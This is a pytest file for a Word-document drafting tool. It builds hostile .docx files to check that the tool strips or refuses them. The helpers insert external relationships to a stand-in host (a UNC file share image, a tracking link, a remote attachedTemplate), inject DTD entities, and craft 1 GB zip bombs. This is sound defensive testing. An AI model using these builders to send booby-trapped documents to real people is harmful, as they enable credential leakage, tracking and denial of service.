"""Hostile Word files: references that reach out to the network or smuggle DTD entities, and
zip bombs through every path that opens a zip (a reference, a re-opened export, custom.xml).

Each runs the command line in a child measuring its own peak memory: a bomb must be refused
with one line, quickly, in well under 300 MB.
"""

from __future__ import annotations

import io
import sys
import zipfile
from pathlib import Path

import docx
import pytest

from tests.hostile.measure import PEAK_MEMORY_LIMIT_MB, run_measured
from tests.zip_bombs import write_spaced_member

REFUSAL_SECONDS = 15  # refusal takes about a second idle; this is a guard on a loaded machine
SAMPLE = Path(__file__).resolve().parents[2] / "seeds" / "blinken_beijing.txt"
posix_only = pytest.mark.skipif(sys.platform == "win32", reason="resource.getrusage is POSIX")


def _reference_bytes() -> bytes:
    document = docx.Document()
    document.sections[0].header.paragraphs[0].text = "Ministry of Examples"
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _rewrite(raw: bytes, changes: dict[str, bytes], *, bomb: str | None = None) -> bytes:
    """A copy of the package with members replaced or added; ``bomb`` inflates one member to 1 GB."""
    source = zipfile.ZipFile(io.BytesIO(raw))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as target:
        names = [info.filename for info in source.infolist()]
        for name in [*names, *(n for n in changes if n not in names)]:
            data = changes.get(name, source.read(name) if name in names else b"")
            if name == bomb:
                closing = data.rindex(b"</")
                write_spaced_member(target, name, data[:closing], data[closing:], 1024)
            else:
                target.writestr(name, data)
    return out.getvalue()


def _with_external_relationships(raw: bytes) -> bytes:
    package = zipfile.ZipFile(io.BytesIO(raw))
    header_name = next(n for n in package.namelist() if n.startswith("word/header"))
    header_rels_name = "word/_rels/" + header_name.removeprefix("word/") + ".rels"
    empty_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    )
    header = package.read(header_name).decode()
    hyperlink = '<w:hyperlink r:id="rIdEvil2"><w:r><w:t xml:space="preserve"> www.example.org</w:t></w:r></w:hyperlink>'
    header = header.replace("</w:p>", hyperlink + "</w:p>", 1)
    header_rels = (
        package.read(header_rels_name).decode() if header_rels_name in package.namelist() else empty_rels
    ).replace(
        "</Relationships>",
        '<Relationship Id="rIdEvil1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"'
        ' Target="file://///198.51.100.7/share/logo.png" TargetMode="External"/>'
        '<Relationship Id="rIdEvil2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'hyperlink" Target="http://198.51.100.7/track" TargetMode="External"/></Relationships>',
    )
    settings = package.read("word/settings.xml").decode()
    assert 'xmlns:r="' in settings and "<w:zoom" in settings
    settings = settings.replace("<w:zoom", '<w:attachedTemplate r:id="rIdEvil3"/><w:zoom', 1)
    settings_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rIdEvil3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate" Target="http://198.51.100.7/normal.dotm" TargetMode="External"/></Relationships>'
    )
    return _rewrite(
        raw,
        {
            header_name: header.encode(),
            header_rels_name: header_rels.encode(),
            "word/settings.xml": settings.encode(),
            "word/_rels/settings.xml.rels": settings_rels.encode(),
        },
    )


def _external_targets(raw: bytes) -> list[str]:
    package = zipfile.ZipFile(io.BytesIO(raw))
    found = []
    for name in package.namelist():
        data = package.read(name)
        if b'TargetMode="External"' in data or b"198.51.100.7" in data:
            found.append(name)
    return found


def test_a_reference_with_external_relationships_passes_none_of_them_on(tmp_path: Path) -> None:
    reference = tmp_path / "letterhead.docx"
    reference.write_bytes(_with_external_relationships(_reference_bytes()))
    assert _external_targets(reference.read_bytes())  # the hostile file really has them
    out = tmp_path / "brief.docx"
    code, message, _, _ = run_measured(
        "draft", str(SAMPLE), "-o", str(out), "--reference", str(reference), cwd=tmp_path
    )
    assert code == 0, message
    assert _external_targets(out.read_bytes()) == []
    exported = docx.Document(str(out))
    header_text = " ".join(p.text for p in exported.sections[0].header.paragraphs)
    assert "Ministry of Examples" in header_text and "www.example.org" in header_text  # the link's text stays


def test_a_reference_whose_header_declares_dtd_entities_is_refused(tmp_path: Path) -> None:
    raw = _reference_bytes()
    package = zipfile.ZipFile(io.BytesIO(raw))
    header_name = next(n for n in package.namelist() if n.startswith("word/header"))
    header = package.read(header_name).decode()
    declaration_end = header.index("?>") + 2
    header = (
        header[:declaration_end]
        + '<!DOCTYPE w:hdr [<!ENTITY office "Ministry of Examples">]>'
        + header[declaration_end:].replace("Ministry of Examples", "&office;")
    )
    reference = tmp_path / "entities.docx"
    reference.write_bytes(_rewrite(raw, {header_name: header.encode()}))
    out = tmp_path / "brief.docx"
    code, message, _, _ = run_measured(
        "draft", str(SAMPLE), "-o", str(out), "--reference", str(reference), cwd=tmp_path
    )
    assert code == 2
    assert message.startswith("briefing: error: ") and len(message.splitlines()) == 1
    assert "DTD" in message
    assert not out.exists()


@posix_only
def test_a_zip_bomb_as_reference_is_refused_quickly_in_little_memory(tmp_path: Path) -> None:
    reference = tmp_path / "bomb.docx"
    reference.write_bytes(_rewrite(_reference_bytes(), {}, bomb="word/styles.xml"))
    assert reference.stat().st_size < 5 * 1024 * 1024
    out = tmp_path / "brief.docx"
    code, message, peak_mb, seconds = run_measured(
        "draft", str(SAMPLE), "-o", str(out), "--reference", str(reference), cwd=tmp_path
    )
    assert code == 2, message
    assert message.startswith("briefing: error: ") and len(message.splitlines()) == 1
    assert peak_mb < PEAK_MEMORY_LIMIT_MB, f"peak {peak_mb:.0f} MB"
    assert seconds < REFUSAL_SECONDS
    assert not out.exists()


def _exported_brief(tmp_path: Path) -> bytes:
    out = tmp_path / "export.docx"
    code, message, _, _ = run_measured("draft", str(SAMPLE), "-o", str(out), cwd=tmp_path)
    assert code == 0, message
    return out.read_bytes()


@posix_only
@pytest.mark.parametrize("member", ["word/document.xml", "docProps/custom.xml"])
def test_a_bombed_briefing_export_is_refused_when_reopened(tmp_path: Path, member: str) -> None:
    bombed = tmp_path / "bombed.docx"
    bombed.write_bytes(_rewrite(_exported_brief(tmp_path), {}, bomb=member))
    assert bombed.stat().st_size < 5 * 1024 * 1024
    code, message, peak_mb, seconds = run_measured("draft", str(bombed), "--json", cwd=tmp_path)
    assert code == 2, message
    assert message.startswith("briefing: error: ") and len(message.splitlines()) == 1
    assert peak_mb < PEAK_MEMORY_LIMIT_MB, f"peak {peak_mb:.0f} MB"
    assert seconds < REFUSAL_SECONDS
